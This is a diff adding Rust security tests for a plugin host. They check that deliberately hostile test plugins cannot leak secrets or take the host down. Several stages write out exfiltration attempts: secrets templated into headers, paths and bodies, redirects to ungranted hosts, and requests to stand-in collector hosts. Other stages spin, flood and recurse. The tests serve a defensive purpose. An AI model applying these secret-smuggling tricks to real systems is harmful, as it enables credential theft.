@@ -1,0 +1,246 @@
+//! The trust boundary against plugins that are trying (docs/security.md): real hostile
+//! components (`tests/plugins/{chaos,greedy,impostor}`), the real binary, fake vendors
+//! on 127.0.0.1 that record everything they see.
+
+use std::path::{Path, PathBuf};
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use super::plugins::plugin_file;
+use super::serve::Server;
+use crate::support::{self, Fake, Reply};
+
+const KEY: &str = "sk_granted_5f4e3d2c1b";
+const OTHER: &str = "sk_other_9a8b7c6d5e";
+
+/// A plugin directory holding the named fixture components.
+fn fixtures(dir: &Path, names: &[(&str, &str)]) -> PathBuf {
+    let p = dir.join("plugins");
+    std::fs::create_dir_all(&p).unwrap();
+    for (from, name) in names {
+        std::fs::copy(plugin_file(from, name), p.join(format!("{name}.wasm"))).unwrap();
+    }
+    p
+}
+
+/// A chaos stage that sends whatever request the run's input holds under its id: the
+/// request text comes from data, as a hostile plugin's own strings would.
+fn call(id: &str, granted: &str, request: Value, requests: &mut serde_json::Map<String, Value>) -> Value {
+    requests.insert(id.to_string(), request);
+    json!({"id": id, "component": "chaos", "optional": true,
+           "allowed_hosts": [granted],
+           "config": {"mode": "call", "token": "{{secrets.KEY}}", "request": format!("{{{{input.requests.{id}}}}}")}})
+}
+
+/// Every trick a connector can play with a request, each in its own stage of one run.
+/// Each is refused or stays literal text; the host nobody granted never hears a thing,
+/// and no secret value appears in stdout, stderr or the report.
+#[tokio::test]
+async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
+    let granted = Fake::start().await;
+    let other = Fake::start().await;
+    for path in ["/ok", "/other", "/upper", "/c", "/data"] {
+        granted.route(path, vec![Reply::json(200, json!({"ok": true}))]);
+    }
+    granted.route(
+        "/redirect",
+        vec![Reply::status(302).header("location", &other.url("/landing"))],
+    );
+    // An upstream that echoes the credential it was sent.
+    granted.route(
+        "/echo",
+        vec![Reply::json(200, json!({"you_sent": format!("Bearer {KEY}")}))],
+    );
+    let g = format!("127.0.0.1:{}", granted.addr.port());
+    let bomb = format!("{{{{{}x{}}}}}", "(".repeat(5000), ")".repeat(5000));
+    let bearer = |v: &str| json!({"Authorization": v});
+    let mut requests = serde_json::Map::new();
+    let r = &mut requests;
+    let stages = vec![
+        call("ok", &g, json!({"url": granted.url("/ok"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+        call("ungranted-secret", &g, json!({"url": granted.url("/other"), "headers": bearer("Bearer {{secrets.OTHER}}")}), r),
+        call("unbound-host", &g, json!({"url": other.url("/unbound"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+        call("declared-host", &g, json!({"url": "https://declared.example/collect", "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+        call("secret-base", &g, json!({"url": "{{secrets.OTHER_URL}}/base"}), r),
+        call("default-trick", &g, json!({"url": format!("{{{{secrets.UNSET | default('{}')}}}}/x?k={{{{secrets.KEY}}}}", other.url("")) }), r),
+        call("upper-filter", &g, json!({"url": granted.url("/upper"), "headers": bearer("Bearer {{secrets.KEY | upper}}")}), r),
+        call("secret-in-path", &g, json!({"url": format!("{}/{{{{secrets.KEY}}}}", granted.url("/c")), "body": "{{secrets.KEY}}"}), r),
+        call("redirect", &g, json!({"url": granted.url("/redirect"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+        call("echo", &g, json!({"url": granted.url("/echo"), "headers": bearer("Bearer {{secrets.KEY}}")}), r),
+    ];
+    let mut stages = stages;
+    // Run input that looks like a template flows into the request as text.
+    stages.push(json!({"id": "data", "component": "chaos", "optional": true, "allowed_hosts": [g],
+        "config": {"mode": "call", "token": "{{secrets.KEY}}", "request": {
+            "url": format!("{}?id={{{{input.id}}}}&b={{{{input.bomb}}}}", granted.url("/data")),
+            "headers": {"X-Customer-Id": "{{input.id}}"}}}}));
+    let dir = support::scratch("security-hostile");
+    let pipeline = support::write_json(&dir, "hostile.json", &json!({"name": "hostile", "stages": stages}));
+    let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
+    let report = dir.join("report.json");
+    let mut cmd = support::fmhost();
+    cmd.args(["--log-format", "json", "run"])
+        .arg(&pipeline)
+        .arg("--plugins")
+        .arg(&plugins)
+        .arg("--report")
+        .arg(&report)
+        .arg("--input-json")
+        .arg(json!({"id": "{{secrets.KEY}}", "bomb": bomb, "requests": requests}).to_string())
+        .env("FMHOST_SECRET_KEY", KEY)
+        .env("FMHOST_SECRET_OTHER", OTHER)
+        .env("FMHOST_SECRET_OTHER_URL", other.url(""));
+    let ran: support::Ran = support::output(cmd).await.into();
+    let report_text = std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("{e}: {}", ran.stderr));
+    let r: Value = serde_json::from_str(&report_text).unwrap();
+    let stage = |id: &str| {
+        r["stages"].as_array().unwrap().iter().find(|s| s["id"] == id).cloned()
+            .unwrap_or_else(|| panic!("no stage {id} in {r}"))
+    };
+    let error = |id: &str| {
+        let s = stage(id);
+        assert_eq!(s["error"]["kind"], "sandbox", "{id}: {s}");
+        s["error"]["message"].as_str().unwrap().to_string()
+    };
+
+    assert_eq!(stage("ok")["status"], "succeeded", "{}", ran.stderr);
+    assert_eq!(granted.seen("/ok")[0].header("authorization"), Some(format!("Bearer {KEY}").as_str()));
+
+    let e = error("ungranted-secret");
+    assert!(e.contains("plugin chaos in stage ungranted-secret: refused: header Authorization: secret OTHER was not granted"), "{e}");
+    assert!(error("unbound-host").contains(&format!("host 127.0.0.1:{} is not granted", other.addr.port())));
+    assert!(error("declared-host").contains("declares declared.example but declaring is not granting"));
+    assert!(error("secret-base").contains("url: secret OTHER_URL was not granted"));
+    let e = error("redirect");
+    assert!(e.contains("redirect to") && e.contains("refused") && e.contains("is not granted"), "{e}");
+
+    // Tricks that are not slots are text: nothing is substituted, nothing sent elsewhere.
+    let out = |id: &str| stage(id)["output"].clone();
+    assert!(out("default-trick")["error"]["kind"].as_str().unwrap().ends_with("InvalidRequest"), "{}", out("default-trick"));
+    let upper = &granted.seen("/upper")[0];
+    assert_eq!(upper.header("authorization"), Some("Bearer {{secrets.KEY | upper}}"));
+    let in_path: Vec<_> = granted.all_seen().into_iter().filter(|s| s.path.starts_with("/c/")).collect();
+    assert_eq!(in_path.len(), 1, "{:?}", granted.all_seen());
+    assert!(in_path[0].path.contains("secrets.KEY") && in_path[0].body.as_ref() == b"\"{{secrets.KEY}}\"", "{:?}", in_path[0]);
+    let data = &granted.seen("/data")[0];
+    assert_eq!(data.header("x-customer-id"), Some("{{secrets.KEY}}"));
+    assert!(data.query.contains("secrets.KEY") && data.query.contains("(((("), "{}", data.query);
+    // The echoed credential is masked before the plugin sees the body.
+    let echoed = out("echo")["body"].as_str().unwrap().to_string();
+    assert!(echoed.contains("Bearer ***") && !echoed.contains(KEY), "{echoed}");
+
+    assert!(other.all_seen().is_empty(), "the ungranted host saw {:?}", other.all_seen());
+    for seen in granted.all_seen() {
+        let text = format!("{seen:?}");
+        assert!(!text.contains(OTHER), "OTHER reached the granted host: {text}");
+    }
+    for (what, text) in [("stdout", &ran.stdout), ("stderr", &ran.stderr), ("report", &report_text)] {
+        assert!(!text.contains(KEY) && !text.contains(OTHER), "a secret in {what}");
+    }
+}
+
+/// Two plugins spinning on the two cores of this machine neither stop `/healthz` from
+/// answering nor outlive the run's own deadline; flooding stderr is not a trap, and
+/// recursing until the stack runs out is a sandbox error, not a dead host.
+#[tokio::test]
+async fn spinning_flooding_and_recursing_plugins_do_not_take_the_host_down() {
+    let dir = support::scratch("security-spin");
+    let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
+    let one = |mode: Value| json!({"name": "one", "stages": [{"id": "chaos", "component": "chaos", "config": mode}]});
+
+    let spin = support::write_json(&dir, "spin.json", &one(json!({"mode": "spin"})));
+    let started = Instant::now();
+    let mut cmd = support::fmhost();
+    cmd.arg("run").arg(&spin).arg("--plugins").arg(&plugins).args(["--timeout", "3s"]);
+    let ran: support::Ran = support::output(cmd).await.into();
+    let took = started.elapsed();
+    assert_eq!(ran.code, 1, "{}", ran.stderr);
+    assert!(ran.stderr.contains("run timed out after 3s"), "{}", ran.stderr);
+    // The plugin's own CPU deadline is 30 s; only the run's deadline can end it this soon.
+    assert!(took < Duration::from_secs(20), "took {took:?}");
+
+    for (mode, expect_code, expect) in [
+        (json!({"mode": "flood", "mib": 8}), 0, "flooded"),
+        (json!({"mode": "recurse"}), 1, "plugin chaos trapped"),
+    ] {
+        let p = support::write_json(&dir, "one.json", &one(mode.clone()));
+        let mut cmd = support::fmhost();
+        cmd.arg("run").arg(&p).arg("--plugins").arg(&plugins);
+        let ran: support::Ran = support::output(cmd).await.into();
+        assert_eq!(ran.code, expect_code, "{mode}: {}", ran.stderr);
+        assert!(ran.stdout.contains(expect) || ran.stderr.contains(expect), "{mode}: {}", ran.stderr);
+    }
+
+    let pipelines = dir.join("pipelines");
+    std::fs::create_dir_all(&pipelines).unwrap();
+    support::write_json(&pipelines, "spin.json", &json!({"name": "spin", "stages": [
+        {"id": "chaos", "component": "chaos", "timeout": "20s", "config": {"mode": "spin"}}]}));
+    let server = Server::start(&dir, &pipelines, &plugins, &json!({}));
+    let client = reqwest::Client::new();
+    for _ in 0..2 {
+        let resp = client.post(format!("{}/v1/pipelines/spin/runs?mode=async", server.url)).json(&json!({})).send().await.unwrap();
+        assert_eq!(resp.status(), 202, "{}", server.log());
+    }
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let mut worst = Duration::ZERO;
+    for _ in 0..20 {
+        let t = Instant::now();
+        let resp = client.get(format!("{}/healthz", server.url)).send().await.unwrap();
+        assert_eq!(resp.status(), 200);
+        worst = worst.max(t.elapsed());
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    eprintln!("healthz, worst of 20 while two plugins spin: {worst:?}");
+    assert!(worst < Duration::from_secs(1), "healthz took {worst:?} while plugins spin");
+}
+
+/// A plugin cannot take a built-in's name; a hot swap whose new version asks for a host
+/// the current one was not granted is refused unless approved in the same call, an
+/// approved host still carries no credential, and the uploaded version survives a restart.
+#[tokio::test]
+async fn names_are_guarded_and_a_swap_that_asks_for_more_is_refused() {
+    let dir = support::scratch("security-names");
+    let impostor = fixtures(&dir.join("impostor"), &[("target/test-plugins", "impostor")]);
+    let p = support::write_json(&dir, "v.json", &json!({"name": "v", "stages": [{"id": "a", "component": "logger", "config": {"message": "x"}}]}));
+    let mut cmd = support::fmhost();
+    cmd.arg("run").arg(&p).arg("--plugins").arg(&impostor);
+    let ran: support::Ran = support::output(cmd).await.into();
+    assert_eq!(ran.code, 2, "{}", ran.stderr);
+    assert!(ran.stderr.contains("\"schema_validate\" is the name of a built-in component"), "{}", ran.stderr);
+
+    let plugins = fixtures(&dir, &[("target/plugins", "intercom")]);
+    let pipelines = dir.join("pipelines");
+    std::fs::create_dir_all(&pipelines).unwrap();
+    support::write_json(&pipelines, "ic.json", &json!({"name": "ic", "stages": [
+        {"id": "fetch", "component": "intercom", "config": {"contact_id": "c1"}}]}));
+    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
+    let client = reqwest::Client::new();
+    let greedy = std::fs::read(plugin_file("target/test-plugins", "greedy")).unwrap();
+    let put = |approve: bool| {
+        client
+            .put(format!("{}/v1/plugins/intercom{}", server.url, if approve { "?approve=true" } else { "" }))
+            .body(greedy.clone())
+            .send()
+    };
+    let refused = put(false).await.unwrap();
+    assert_eq!(refused.status(), 409);
+    let body: Value = refused.json().await.unwrap();
+    assert!(body["detail"].as_str().unwrap().contains("asks for host(s) collector.example"), "{body}");
+    let listed: Value = client.get(format!("{}/v1/plugins", server.url)).send().await.unwrap().json().await.unwrap();
+    let intercom = |listed: &Value| listed.as_array().unwrap().iter().find(|p| p["name"] == "intercom").unwrap()["version"].clone();
+    assert_ne!(intercom(&listed), "6.6.6", "the current version keeps serving");
+
+    let approved = put(true).await.unwrap();
+    assert_eq!(approved.status(), 200);
+    let resp = client.post(format!("{}/v1/pipelines/ic/runs", server.url)).json(&json!({})).send().await.unwrap();
+    let run: Value = resp.json().await.unwrap();
+    let text = run.to_string();
+    assert!(text.contains("secret INTERCOM_TOKEN is not bound to host collector.example"), "{text}");
+    assert!(!text.contains(KEY));
+
+    server.terminate();
+    let server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
+    let listed: Value = client.get(format!("{}/v1/plugins", server.url)).send().await.unwrap().json().await.unwrap();
+    assert_eq!(intercom(&listed), "6.6.6", "the upload serves after a restart: {listed}");
+}
